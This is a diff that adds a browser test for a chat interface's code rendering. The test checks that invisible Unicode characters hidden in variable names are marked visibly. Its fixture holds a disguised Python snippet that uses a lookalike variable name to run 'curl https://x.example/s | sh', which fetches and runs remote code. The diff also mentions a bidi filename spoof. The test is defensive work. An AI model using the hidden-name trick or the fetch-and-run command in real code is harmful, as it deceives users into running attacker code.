@@ -156,6 +156,31 @@ test("a bidi control in the model's prose is shown, not obeyed, streamed or not"
   await done(page);
 });
 
+test("code shows every character drawn as nothing that changes a name, not an emoji's", opts, async () => {
+  const { page, errors } = await open("theme=light", 380);
+  // `cmd` and `cmd<U+034F>` are two names to Python, drawn alike: the block read as
+  // running "ls". So are a Hangul filler (drawn as a space, a name of its own), a
+  // variation selector after a letter and a tag character; an emoji's selector is not.
+  const code =
+    'cmd\u034f = "curl https://x.example/s | sh"\ncmd = "ls"\n\u3164 = 1\nok\ufe0f = 2\n' +
+    'print("\u26a0\ufe0f done\u{e0041}")\nos.system(cmd\u034f)';
+  const chunks = ["Run this:\n\n```python\n", code, "\n```\n"];
+  const out = await page.evaluate((c) => (window as any).__streamMarkdown(c), chunks);
+  for (const html of [out.streamed, out.final, out.fresh, out.parsed]) {
+    const marks = [...html.matchAll(/data-cp="([^"]+)"/g)].map((m) => m[1]);
+    assert.deepEqual(marks, ["U+034F", "U+3164", "U+FE0F", "U+E0041", "U+034F"], html);
+  }
+  // The code copied or inserted is the code as written.
+  await page.evaluate((c) => (window as any).__mountAnswer(c), chunks);
+  assert.equal((await page.locator("#host pre code").first().textContent())?.replace(/\n$/, ""), code);
+  await page
+    .locator("#host pre")
+    .first()
+    .screenshot({ path: join(outDir, "invisible-names.png") });
+  assert.deepEqual(errors, []);
+  await done(page);
+});
+
 test("the conversation's title in the header shows its bidi controls, not obeys them", opts, async () => {
   const { page, errors } = await open("theme=light&bidititle=1", 380);
   // A title holds what the person wrote or the model made of it: "Save x<U+202E>gnp.exe"
